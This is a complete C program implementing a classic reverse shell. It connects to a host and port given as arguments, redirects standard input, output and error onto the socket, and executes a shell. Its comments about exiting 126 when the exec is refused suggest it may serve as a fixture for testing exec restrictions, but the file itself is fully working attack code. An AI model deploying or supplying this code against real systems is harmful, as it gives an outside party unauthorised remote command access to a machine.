// The textbook reverse shell: connect to HOST:PORT, put the socket on fds 0, 1 and 2, exec a
// shell. Refused at the exec, a message goes to the original stderr (saved first) and it exits 126.
// usage: revshell HOST PORT [SHELL]
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: revshell HOST PORT [SHELL]\n");
        return 2;
    }
    const char *shell = argc > 3 ? argv[3] : "/bin/sh";
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[2])) };
    inet_pton(AF_INET, argv[1], &addr.sin_addr);
    if (connect(s, (struct sockaddr *)&addr, sizeof addr) != 0) {
        perror("revshell: connect");
        return 2;
    }
    int saved = dup(2);
    for (int fd = 0; fd <= 2; fd++) {
        if (dup2(s, fd) < 0) {
            dprintf(saved, "revshell: dup2: %s\n", strerror(errno));
            return 3;
        }
    }
    char *args[] = { "sh", NULL };
    execve(shell, args, environ);
    dprintf(saved, "revshell: exec %s: %s\n", shell, strerror(errno));
    return errno == EACCES ? 126 : 1;
}
